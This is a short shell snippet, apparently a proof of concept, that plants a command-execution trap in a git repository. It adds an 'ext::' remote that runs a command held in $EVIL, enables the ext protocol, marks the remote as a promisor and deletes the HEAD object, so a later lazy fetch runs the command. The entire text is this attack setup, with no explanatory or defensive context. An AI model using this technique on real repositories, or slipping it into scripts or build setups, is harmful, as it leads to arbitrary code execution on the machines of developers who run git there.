git remote add origin "ext::$EVIL"
git config protocol.ext.allow always
git config remote.origin.promisor true
object=$(git rev-parse HEAD)
rm -f ".git/objects/${object:0:2}/${object:2}"
